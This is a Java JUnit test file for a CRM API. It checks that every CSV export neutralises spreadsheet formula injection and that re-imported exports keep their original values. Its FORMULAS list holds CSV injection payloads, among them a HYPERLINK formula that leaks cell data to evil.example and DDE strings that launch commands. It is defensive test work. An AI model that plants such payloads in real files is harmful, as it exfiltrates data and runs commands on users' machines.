package io.custodia.reliability;

import static org.assertj.core.api.Assertions.assertThat;

import io.custodia.Api;
import io.custodia.ApiTest;
import java.io.IOException;
import java.io.StringWriter;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVPrinter;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/**
 * CSV formula injection (OWASP): a value that a spreadsheet would run as a formula leaves every CSV
 * the server writes (the five record exports and the access review) neutralised, and an import of
 * the exported file gives back the values as they were.
 */
class CsvInjectionTest extends ApiTest {
    /** Values a salesperson could type, each a formula (or worse) to a spreadsheet. */
    static final List<String> FORMULAS = List.of(
            "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")",
            "=cmd|' /C calc'!A0",
            "+1+2",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "'=already quoted",
            "''@twice",
            "'plain with an apostrophe",
            "plain");

    private static final Pattern NUMBER = Pattern.compile("-?[0-9]+(\\.[0-9]+)?");

    /** Every cell (header included) of a CSV that a spreadsheet would read as a formula. */
    private static List<String> formulaCells(String csv) throws IOException {
        List<String> found = new ArrayList<>();
        try (CSVParser parser = CSVParser.parse(csv, CSVFormat.DEFAULT)) {
            for (CSVRecord line : parser) {
                for (String cell : line) {
                    if (!cell.isEmpty()
                            && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0
                            && !NUMBER.matcher(cell).matches()) {
                        found.add(cell);
                    }
                }
            }
        }
        return found;
    }

    private static List<Map<String, String>> rows(String csv) throws IOException {
        List<Map<String, String>> rows = new ArrayList<>();
        try (CSVParser parser = CSVParser.parse(
                csv,
                CSVFormat.DEFAULT
                        .builder()
                        .setHeader()
                        .setSkipHeaderRecord(true)
                        .get())) {
            for (CSVRecord line : parser) {
                rows.add(line.toMap());
            }
        }
        return rows;
    }

    @Test
    void everyCsvTheServerWritesNeutralisesFormulasAndAnImportGivesBackTheOriginals() throws IOException {
        Tenant t = workspaceWithARegion();
        String contact = null;
        for (String value : FORMULAS) {
            String deal = created(api().post(
                            "/api/v1/deals",
                            t.adminToken(),
                            Map.of(
                                    "title",
                                    value,
                                    "amount",
                                    -100,
                                    "currency",
                                    "BRL",
                                    "fields",
                                    Map.of("region", value))));
            contact = created(api().post(
                            "/api/v1/contacts",
                            t.adminToken(),
                            Map.of("firstName", value, "phone", value.substring(0, Math.min(50, value.length())))));
            created(api().post("/api/v1/companies", t.adminToken(), Map.of("name", value)));
            created(api().post(
                            "/api/v1/activities",
                            t.adminToken(),
                            Map.of("type", "call", "subject", value, "dealId", deal)));
            created(api().post("/api/v1/notes", t.adminToken(), Map.of("body", value, "contactId", contact)));
        }
        newUser(t, "mallory@" + t.slug() + ".test", FORMULAS.get(0));

        int writers = 0;
        int neutralised = 0;
        for (String type : List.of("deals", "contacts", "companies", "activities", "notes")) {
            Api.Response export = api().get("/api/v1/" + type + "/export", t.adminToken());
            assertThat(export.status()).as(type).isEqualTo(200);
            assertThat(formulaCells(export.body())).as(type + " export").isEmpty();
            neutralised += (int) export.body().chars().filter(c -> c == '\'').count();
            writers++;
        }
        Api.Response review =
                api().send("GET", "/api/v1/access/review", t.adminToken(), null, null, "Accept", "text/csv");
        assertThat(review.status()).isEqualTo(200);
        assertThat(review.body()).contains("'=HYPERLINK");
        assertThat(formulaCells(review.body())).as("access review").isEmpty();
        writers++;
        System.out.printf("CSV writers checked: %d; apostrophes written: %d%n", writers, neutralised);

        // The exported deals, imported into another workspace, come back as they were typed.
        List<Map<String, String>> exported =
                rows(api().get("/api/v1/deals/export", t.adminToken()).body());
        assertThat(exported.stream().map(r -> r.get("title")).toList())
                .contains("'=cmd|' /C calc'!A0", "''=already quoted", "'''@twice", "'plain with an apostrophe");
        StringWriter file = new StringWriter();
        try (CSVPrinter printer = new CSVPrinter(file, CSVFormat.DEFAULT)) {
            printer.printRecord("title", "amount", "currency", "fields.region");
            for (Map<String, String> r : exported) {
                printer.printRecord(r.get("title"), r.get("amount"), r.get("currency"), r.get("region"));
            }
        }
        Tenant other = workspaceWithARegion();
        Api.Response imported =
                api().send("POST", "/api/v1/deals/import", other.adminToken(), "text/csv", file.toString());
        assertThat(imported.status()).as(imported.body()).isEqualTo(200);
        assertThat(imported.json().get("created").asInt()).isEqualTo(FORMULAS.size());
        assertThat(stored(other)).containsExactlyInAnyOrderElementsOf(stored(t));
    }

    /** A workspace with a pipeline and a custom text field {@code region} on deals. */
    private Tenant workspaceWithARegion() {
        Tenant t = newWorkspace();
        onePipeline(t);
        created(api().post(
                        "/api/v1/fields",
                        t.adminToken(),
                        Map.of("entity", "deal", "key", "region", "label", "Region", "type", "text")));
        return t;
    }

    /** Each deal's title, region and amount, as the API answers them. */
    private List<String> stored(Tenant tenant) {
        return api().get("/api/v1/deals?limit=200", tenant.adminToken())
                .json()
                .get("items")
                .valueStream()
                .map(d -> d.get("title").asString() + " | "
                        + d.get("fields").get("region").asString() + " | "
                        + d.get("amount").asString())
                .toList();
    }

    @Test
    void anUnreadableImportSaysWhyWithoutNamingJavaClasses() {
        Tenant t = newWorkspace();
        // Each broken quote is named by the line it begins on, in our words.
        Map<String, String> lines = Map.of(
                "title\n\"unclosed", "line 2: ", "title,\"a\"b\nx,y", "line 1: ", "title\nx\n\"y\"z", "line 3: ");
        for (String body : lines.keySet()) {
            Api.Response refused = api().send("POST", "/api/v1/deals/import", t.adminToken(), "text/csv", body);
            assertThat(refused.status()).as(body).isEqualTo(400);
            assertThat(refused.json().get("detail").asString())
                    .as(body)
                    .startsWith(lines.get(body) + "a quote opens a cell")
                    .doesNotContainPattern("[a-z]+\\.[a-z]+\\.[A-Z]")
                    .doesNotContain("Exception");
        }
    }
}
